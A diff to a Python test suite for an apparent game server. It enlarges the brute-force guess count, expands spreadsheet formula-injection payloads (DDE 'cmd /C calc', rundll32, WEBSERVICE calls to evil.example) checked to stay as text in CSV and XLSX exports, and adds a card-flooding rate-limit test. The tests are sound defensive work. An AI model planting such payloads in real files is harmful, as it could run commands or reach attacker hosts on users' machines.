@@ -35,7 +35,7 @@ from server.spreadsheets import csv_file, xlsx_file
 
 session_loop = pytest.mark.asyncio(loop_scope="session")
 
-DIALOGUES, GUESSES, SOCKETS, JOINS = 1_000, 200_000, 1_000, 2_000
+DIALOGUES, GUESSES, SOCKETS, JOINS = 1_000, 1_000_000, 1_000, 2_000
 
 
 def test_many_guesses_take_long_find_nothing_and_hold_up_nobody_who_knows() -> None:
@@ -198,7 +198,17 @@ MIDDLES = [
     *("SUM(1+1)*cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example")', "rundll32|'x'!A0", "2"),
     *('DDE("cmd";"/C calc";"x")', "A1:A9", "@SUM(1)", "http://evil.example", "{=1}", "x;=1;=2"),
 ]
-ENDS = ["", ";=1+1", ",=1+1", "\n=1+1", "\r\n+2", '"', "\t=1", ' ";"=1']
+ENDS = [
+    *(f"{turn}{cell}" for turn in ("\n", "\r\n", "\t", ";") for cell in ("=1", "+1", "-1", "@A1")),
+    "",
+    ";=1+1",
+    ",=1+1",
+    "\n=1+1",
+    "\r\n+2",
+    '"',
+    "\t=1",
+    ' ";"=1',
+]
 CALCULATED = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
 
 
@@ -206,9 +216,9 @@ def payloads() -> list[str]:
     return ["".join(parts) for parts in itertools.product(BEGINNINGS, MIDDLES, ENDS)]
 
 
-def test_p14_two_thousand_payloads_are_texts_in_every_spreadsheet() -> None:
+def test_p14_five_thousand_payloads_are_texts_in_every_spreadsheet() -> None:
     posted = payloads()
-    assert len(posted) > 1_900
+    assert len(posted) > 5_000
     rows = [[text, "daneben"] for text in posted]
     written = csv_file(rows).decode("utf-8-sig")
     for separator in (",", ";", "\t"):
@@ -264,6 +274,24 @@ async def test_a_hall_full_of_cards_refuses_more_and_goes_on(
     assert {answer.get("reason") for answer in answers[5:]} == {"dialogue_full"}
     assert (await other.command("TakeTable", table=2))["ok"]
     assert (await evening.live.perform(call(evening), PostCard(text="x", kind="idea"))).ok is False
+    for phone in (greedy, other):
+        await phone.close()
+
+
+@session_loop
+async def test_one_who_floods_the_table_is_slowed_and_nobody_else(
+    evening: OpenSockets, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("rooms.cards.MOST_CARDS_A_MINUTE", 5)
+    greedy, other = await evening.seated(1), await evening.seated(2)
+    card = {"text": "Nummer", "kind": "idea"}
+    answers = [await greedy.command("PostCard", **card) for _ in range(12)]
+    assert [answer["ok"] for answer in answers] == [True] * 5 + [False] * 7
+    assert {(said["error"], said["reason"]) for said in answers[5:]} == {("busy", "cards_too_fast")}
+    assert (await other.command("PostCard", **card))["ok"]
+    assert (await greedy.command("TakeTable", table=2))["ok"], "it may go on otherwise"
+    monkeypatch.setattr("rooms.cards.MINUTE_MS", 0)
+    assert (await greedy.command("PostCard", **card))["ok"], "the minute is over"
     for phone in (greedy, other):
         await phone.close()
 
